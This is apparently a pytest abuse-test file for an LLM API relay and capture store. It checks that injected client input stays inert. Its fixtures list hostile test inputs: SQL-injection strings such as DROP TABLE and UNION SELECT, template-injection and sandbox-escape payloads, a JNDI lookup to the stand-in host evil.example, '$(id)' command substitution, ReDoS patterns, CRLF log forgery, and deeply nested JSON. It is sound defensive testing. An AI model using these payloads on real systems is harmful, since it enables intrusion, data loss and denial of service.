"""What clients write is data: to the database, to patterns, to templates, to logs and to programs that read JSON."""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from capture import export, feed
from capture.database import Database, open_database
from capture.errors import PotstillError, StoreError
from capture.exchange import Exchange
from capture.filters import FilterError, parse_filter, quote
from capture.settings import Settings
from capture.stats import read_stats
from tests.abuse.wire import CHAT, KEY, request, said, send
from tests.capture.planting import answer, chat, drain
from tests.capture.planting import send as plant
from tests.faults.relay_process import relay_process
from tests.proxy.scripting import CHAT_ANSWER, Received, Upstream, http_answer, kept, relay_settings, relaying, talk

pytestmark = pytest.mark.abuse

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE exchanges; --",
    '"; DROP TABLE exchanges; --',
    "') UNION SELECT value FROM settings --",
    "1; ATTACH DATABASE '/tmp/x.db' AS x",
    "x' AND (SELECT load_extension('x')) --",
    "'||(SELECT group_concat(name) FROM sqlite_master)||'",
    "$1", ":f0", "?1", "%(f0)s", "{f0}", "\\' OR 1=1 --", "/*", "*/ OR 1=1 --", "NULL", "'; SELECT pg_sleep(30); --",
    "task:x OR task:y", "a\\", '"', "\\\"", "%", "_", "\u02bc OR 1=1", "＇ OR 1=1", "''", "';", "`", "[exchanges]",
]  # fmt: skip


@pytest.fixture
def injected(database: Database, tmp_path: Path) -> dict[str, str]:
    """One exchange for each attempt, which stands in every field that a client fills; ids by attempt."""
    found = {}
    for attempt in SQL:
        fields: dict[str, Any] = {"task": attempt, "user_name": attempt, "session_name": attempt, "environment": attempt}
        fields |= {"model_asked": attempt, "unit": attempt, "tags": {"team": attempt}}
        found[attempt] = plant(tmp_path / "spool", chat(f"please {attempt} now"), answer(f"no {attempt}"), **fields)
    drain(database, tmp_path / "spool")
    return found


def ids_of(exchanges: list[Exchange]) -> list[str]:
    return sorted(exchange.id for exchange in exchanges)


@pytest.mark.parametrize("field", ["task", "user", "session", "environment", "tag.team"])
def test_a21_a_filter_finds_exactly_what_has_the_value_that_was_typed(
    field: str, injected: dict[str, str], database: Database
) -> None:
    for attempt, id in injected.items():
        for typed in (f"{field}:{quote(attempt)}", f"-{field}:{quote(attempt)}"):
            found = ids_of(feed.page(database, parse_filter(typed), limit=1_000))
            expected = [id] if not typed.startswith("-") else sorted(set(injected.values()) - {id})
            assert found == expected, typed
    assert feed.count(database, parse_filter("")) == len(SQL)


def test_a21_whatever_is_typed_is_a_filter_or_an_error_that_says_so(injected: dict[str, str], database: Database) -> None:
    for attempt in SQL:
        for typed in (attempt, f"task:{attempt}", f"status>={attempt}", f"since:{attempt}", f"{attempt}:x", f"cost>{attempt}"):
            try:
                count = feed.count(database, parse_filter(typed))
            except FilterError as error:
                assert str(error)
                continue
            assert 0 <= count <= len(SQL)
    assert feed.count(database, parse_filter("")) == len(SQL)


def test_a21_ids_and_groups_that_are_sql_are_not_found(injected: dict[str, str], database: Database) -> None:
    for attempt in SQL:
        with pytest.raises(PotstillError):
            feed.get(database, attempt)
        with pytest.raises(PotstillError):
            read_stats(database, parse_filter(""), attempt)
    assert feed.count(database, parse_filter("")) == len(SQL)


@pytest.mark.parametrize("header", ["Authorization", "x-api-key", "User-Agent", "x-litellm-session-id", "helicone-user-id"])
async def test_a21_sql_in_a_header_reaches_no_statement(header: str, tmp_path: Path, upstream: Upstream) -> None:
    settings = relay_settings(tmp_path, upstream.url)
    attempts = [attempt for attempt in SQL if attempt.isascii()]
    async with relaying(tmp_path) as worker:
        for attempt in attempts:
            key = "" if header == "Authorization" else KEY
            (reply,) = await send(worker.port, request(CHAT, f"{key}{header}: {attempt}\r\n", b"{}"))
            assert reply.status == 200
    exchanges = stored(settings)
    assert len(exchanges) == len(attempts)
    if header == "helicone-user-id":
        assert [exchange.user_name for exchange in reversed(exchanges)] == attempts
    if header == "x-litellm-session-id":
        assert [exchange.session_name for exchange in reversed(exchanges)] == attempts


def stored(settings: Settings) -> list[Exchange]:
    """What the store makes of the spool, newest first."""
    database = open_database(settings.database_url)
    try:
        drain(database, settings.data_folder / "spool")
        return list(feed.page(database, parse_filter(""), limit=1_000))
    finally:
        database.close()


WORDS = ("billing", "bil%ling", "bil_ing", "b*", "a.b", "%", "_", "100%", "a\\b", "!x", "'", "ab", "a%b", "a_b", "__", "%%!")


@pytest.fixture
def worded(database: Database, tmp_path: Path) -> Database:
    """One exchange for each of `WORDS`, which is its task and its user."""
    for word in WORDS:
        plant(tmp_path / "spool", chat("q"), answer("a"), task=word, user_name=word, model_asked=word, unit=word)
    drain(database, tmp_path / "spool")
    return database


@given(st.lists(st.text(alphabet="%_!\\'ab.", max_size=3), min_size=1, max_size=4), st.sampled_from(("task", "user")))
@hypothesis_settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a21_the_store_and_plain_python_agree_on_what_a_wildcard_finds(worded: Database, parts: list[str], field: str) -> None:
    if not any(parts) and len(parts) == 1:
        return
    typed = "*".join(quote(part) if part else "" for part in parts)
    like = re.compile(".*".join(re.escape(part) for part in parts), re.DOTALL | re.IGNORECASE)
    found = feed.page(worded, parse_filter(f"{field}:{typed}"), limit=1_000)
    assert sorted(exchange.task for exchange in found) == sorted(word for word in WORDS if like.fullmatch(word))


MANY = {
    "percent and underline": '"' + "%_" * 50 + '"*',
    "stars": "*".join("a" * 50),
    "stars around one letter": "*a" * 50 + "*b",
    "nested repeats of a regular expression": '"(a+)+$"',
    "a backtracking alternation": '"(a|aa)+$"',
}


@pytest.mark.parametrize("case", MANY)
@pytest.mark.parametrize("field", ["answer", "task", "user"])
def test_a22_a23_a_pattern_made_to_take_forever_is_answered_or_given_up(
    field: str, case: str, database: Database, tmp_path: Path
) -> None:
    for _ in range(20):
        plant(tmp_path / "spool", chat("a" * 500), answer("a" * 1_900), task="a" * 100, user_name="a" * 500)
    drain(database, tmp_path / "spool")
    try:
        assert feed.count(database, parse_filter(f"{field}:{MANY[case]}"), longest_s=5.0) == 0
    except (FilterError, StoreError) as error:
        assert error.next_step if isinstance(error, StoreError) else str(error)


def test_a23_signs_of_a_regular_expression_mean_themselves(database: Database, tmp_path: Path) -> None:
    for words in ("(a+)+$ is one", "aaaa"):
        plant(tmp_path / "spool", chat("q"), answer(words))
    drain(database, tmp_path / "spool")
    (found,) = feed.page(database, parse_filter('answer:"(a+)+$"'))
    assert found.output_text == "(a+)+$ is one"
    assert feed.count(database, parse_filter('answer:"a{4}"')) == 0


TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% for x in [1] %}{{ x }}{% endfor %}", "${jndi:ldap://evil.example/a}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{0.__class__}", "%(asctime)s", "$(id)", "`id`", "{user}", "%s%s%s%n",
]  # fmt: skip


def test_a24_templates_in_prompts_stay_what_was_written(database: Database, tmp_path: Path) -> None:
    for template in TEMPLATES:
        plant(tmp_path / "spool", chat(template), answer(template), task="t", user_name=template)
    drain(database, tmp_path / "spool")
    path = tmp_path / "all.jsonl"
    export.to_file(database, export.Wanted(parse_filter(""), with_raw=True), path, lambda *_: None)
    lines = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
    assert len(lines) == len(TEMPLATES)
    for template, line in zip(TEMPLATES, lines, strict=True):
        assert line["user_name"] == template
        assert json.dumps(template)[1:-1] in json.dumps(line)
        assert "49" not in line["output_text"]
        assert line["output_text"] == template


async def test_a24_a_template_in_a_request_reaches_the_upstream_as_it_is(tmp_path: Path, upstream: Upstream) -> None:
    relay_settings(tmp_path, upstream.url)
    async with relaying(tmp_path) as worker:
        for template in TEMPLATES:
            body = json.dumps({"model": template, "messages": [{"role": "user", "content": template}], "user": template}).encode()
            assert (await talk(worker.port, CHAT, KEY, body)).status == 200
            assert upstream.received[-1].body == body


FORGED = "2026-11-22 10:00:00,000 ERROR proxy: forged"


async def test_a25_nobody_writes_a_line_into_our_logs(tmp_path: Path, upstream: Upstream) -> None:
    async def script(_received: Received, writer: asyncio.StreamWriter) -> None:
        writer.write(f"HTTP/1.1 500 x\n{FORGED}\r\nX-A: b\n{FORGED}\r\nBroken\n\r\n".encode())
        await writer.drain()
        writer.close()

    line = FORGED.replace(" ", "%20")
    async with relay_process(tmp_path, upstream.url) as relay:
        for target in (f"/v1/x%0a{line}", f"/task/a%0a{line}/v1/models", f"/%0d%0a{line}", f"/v1/models?a=%0a{line}"):
            await send(relay.port, request(f"GET {target}", KEY))
        await send(relay.port, f"GET /v1/models HTTP/1.1\nHost: x\n{FORGED}\n\n".encode())
        await send(relay.port, f"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\nX: a\r{FORGED}\r\n\r\n".encode())
        await send(relay.port, f"\r\n{FORGED}\r\n\r\n".encode())
        await send(relay.port, request(CHAT, KEY, json.dumps({"model": f"m\n{FORGED}", "user": f"\n{FORGED}"}).encode()))
        upstream.script = script
        await send(relay.port, request(CHAT, KEY, b"{}"))
    log = (tmp_path / "relay.log").read_text("utf-8", "replace")
    assert not [each for each in log.splitlines() if each.startswith(FORGED[:30])], log


KEYS = ["__class__", "__proto__", "constructor", "__init__", "toString", "$where", "..", "a" * 64]


async def test_a31_odd_names_in_metadata_are_names(tmp_path: Path, upstream: Upstream) -> None:
    settings = relay_settings(tmp_path, upstream.url)
    metadata = dict.fromkeys(KEYS, "v")
    async with relaying(tmp_path) as worker:
        bodies = [
            json.dumps({"model": "m", "messages": [], "metadata": metadata}).encode(),
            json.dumps({"model": "m", "messages": [], "metadata": {f"k{n}": "v" for n in range(10_000)}}).encode(),
            json.dumps({"model": "m", "messages": [], "metadata": {"__class__": {"__init__": {"__globals__": {}}}}}).encode(),
            b'{"model": "m", "metadata": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}",
            b"[" * 100_000,
            b'{"model": ' + b'"x"' * 1_000 + b"}",
            b'{"model": 1e999, "stream": "yes", "user": [], "metadata": 5, "conversation": {"id": {}}}',
            b'{"model": "\\ud800", "user": "\\ud800"}',
            b'{"model": "m", "model": "n", "user": "a", "user": "b"}',
        ]
        for body in bodies:
            reply = await talk(worker.port, CHAT, KEY, body)
            assert (reply.status, reply.body) == (200, CHAT_ANSWER), "the upstream judges bodies, not we"
            assert upstream.received[-1].body == body
        for value in (json.dumps(metadata), json.dumps({"a": [[[]]]}), '{"a":' * 5_000, "[" * 30_000):
            reply = await talk(worker.port, CHAT, f"{KEY}x-litellm-spend-logs-metadata: {value}\r\n", b"{}")
            assert reply.status in (200, 400, 431)
        for name in ("__class__", "__proto__", "constructor"):
            assert (await talk(worker.port, CHAT, f"{KEY}x-potstill-tag-{name}: v\r\n", b"{}")).status == 200
    exchanges = stored(settings)
    assert len(exchanges) >= len(bodies) + 5
    assert max(len(exchange.tags) for exchange in exchanges) <= 64
    by_tag = [exchange.tags for exchange in exchanges if "__class__" in exchange.tags]
    assert by_tag and all(tags["__class__"] == "v" for tags in by_tag)


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b'{"exchange_id": "ex_x", "kind": "' + b"x" * 50_000 + b'"}',
        b'{"__class__": 1}',
        b"\xff\xfe",
        b'{"exchange_id": "\\ud800", "name": "n", "value": 1e999}',
        b"null",
        b"",
    ],
    ids=["depth", "depth of objects", "a long kind", "a class", "no UTF-8", "a lone surrogate", "null", "nothing"],
)
async def test_a31_feedback_that_is_none_is_refused_with_the_reason(body: bytes, tmp_path: Path, upstream: Upstream) -> None:
    relay_settings(tmp_path, upstream.url)
    async with relaying(tmp_path) as worker:
        (reply,) = await send(worker.port, request("POST /feedback", "Content-Type: application/json\r\n", body))
    assert reply.status in (400, 413)
    assert said(reply, "openai")
    assert upstream.received == []


async def test_a31_an_answer_of_any_depth_passes_and_is_stored(tmp_path: Path, upstream: Upstream) -> None:
    deep = b'{"choices": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"

    async def script(_received: Received, writer: asyncio.StreamWriter) -> None:
        writer.write(http_answer(deep))

    upstream.script = script
    settings = relay_settings(tmp_path, upstream.url)
    async with relaying(tmp_path) as worker:
        assert (await talk(worker.port, CHAT, KEY, b'{"model": "m"}')).body == deep
    assert [exchange.body for exchange in kept(settings)] == [deep]
    assert [exchange.status for exchange in stored(settings)] == [200]
